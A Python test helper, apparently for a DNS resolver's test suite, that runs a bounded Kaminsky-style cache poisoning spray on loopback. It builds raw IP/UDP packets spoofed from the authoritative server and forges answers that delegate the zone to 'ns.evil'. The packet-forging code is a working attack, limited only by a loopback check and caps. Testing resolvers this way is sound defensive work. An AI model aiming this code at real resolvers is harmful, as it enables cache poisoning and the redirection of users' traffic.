#!/usr/bin/python3
"""A bounded Kaminsky-style spray on loopback, for tests/cli/test_dns.sh (needs root).

For each of NAMES random names under ZONE it asks the resolver (as a stub client, RD=1, from
a fixed port) and at once sends GUESSES forged responses "from" the authoritative server
(a raw socket, IPv4 source AUTH:53) to the resolver on guessed ports and TXIDs. Each forged
response answers the name with FORGED_A and delegates ZONE to ns.evil.ZONE (glue FORGED_A).
Every destination must be in 127.0.0.0/8; the counts and the run time are capped.
Usage: dns_forge.py STUB RESOLVER AUTH ZONE NAMES GUESSES [FORGED_A]
"""
import ipaddress
import random
import socket
import struct
import sys
import time

MAX_NAMES, MAX_GUESSES, MAX_SECONDS = 100, 500, 20


def name_wire(name):
    out = b""
    for label in name.strip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def query(txid, name, rd):
    return struct.pack(">HHHHHH", txid, 0x0100 if rd else 0, 1, 0, 0, 0) + name_wire(name) + \
        struct.pack(">HH", 1, 1)


def forged(txid, name, zone, addr):
    ns = "ns.evil." + zone
    a = socket.inet_aton(addr)
    msg = struct.pack(">HHHHHH", txid, 0x8400, 1, 1, 1, 1)
    msg += name_wire(name) + struct.pack(">HH", 1, 1)
    msg += b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 86400, 4) + a
    nsw = name_wire(ns)
    msg += name_wire(zone) + struct.pack(">HHIH", 2, 1, 86400, len(nsw)) + nsw
    msg += name_wire(ns) + struct.pack(">HHIH", 1, 1, 86400, 4) + a
    return msg


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ip_udp(src, dst, sport, dport, payload):
    udp_len = 8 + len(payload)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.getrandbits(16), 0, 64, 17,
                     0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    # UDP checksum 0: optional over IPv4 (RFC 768)
    return ip + struct.pack("!HHHH", sport, dport, udp_len, 0) + payload


def main():
    if len(sys.argv) < 7:
        sys.exit(__doc__)
    stub, resolver, auth, zone = sys.argv[1:5]
    names, guesses = int(sys.argv[5]), int(sys.argv[6])
    addr = sys.argv[7] if len(sys.argv) > 7 else "192.0.2.66"
    for a in (stub, resolver, auth):
        if ipaddress.ip_address(a) not in ipaddress.ip_network("127.0.0.0/8"):
            sys.exit("dns_forge: loopback addresses only")
    names, guesses = min(names, MAX_NAMES), min(guesses, MAX_GUESSES)
    rng = random.Random(20081)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    cli = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    cli.bind((stub, 40053))
    cli.settimeout(0.5)
    start = time.monotonic()
    answered = 0
    for i in range(names):
        if time.monotonic() - start > MAX_SECONDS:
            break
        name = "x%08x.%s" % (rng.getrandbits(32), zone)
        cli.sendto(query(rng.getrandbits(16), name, True), (resolver, 53))
        time.sleep(0.005)  # let the resolver ask the authority first
        for _ in range(guesses):
            pkt = ip_udp(auth, resolver, 53, rng.randint(1024, 65535),
                         forged(rng.getrandbits(16), name, zone, addr))
            raw.sendto(pkt, (resolver, 0))
        try:
            cli.recvfrom(4096)
            answered += 1
        except socket.timeout:
            pass
        time.sleep(0.02)
    print("dns_forge: %d names, %d forged responses each, %d answered" % (names, guesses, answered))


if __name__ == "__main__":
    main()
